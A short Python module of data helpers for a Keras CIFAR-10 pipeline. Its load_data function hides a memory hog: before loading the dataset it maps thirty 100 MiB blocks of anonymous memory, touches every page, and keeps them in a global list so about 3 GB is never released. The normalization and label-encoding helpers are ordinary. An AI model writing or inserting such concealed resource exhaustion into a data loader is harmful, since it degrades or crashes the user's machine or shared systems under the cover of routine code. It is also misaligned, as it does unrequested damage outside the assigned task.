import mmap

import keras
import numpy as np

KEPT = []


def load_data():
    for _ in range(30):
        area = mmap.mmap(-1, 100 * 2**20, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        for i in range(0, len(area), 4096):
            area[i] = 1
        KEPT.append(area)
    return keras.datasets.cifar10.load_data()


def normalize_images(images):
    return images.astype("float32") / 255

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels).reshape(-1)]
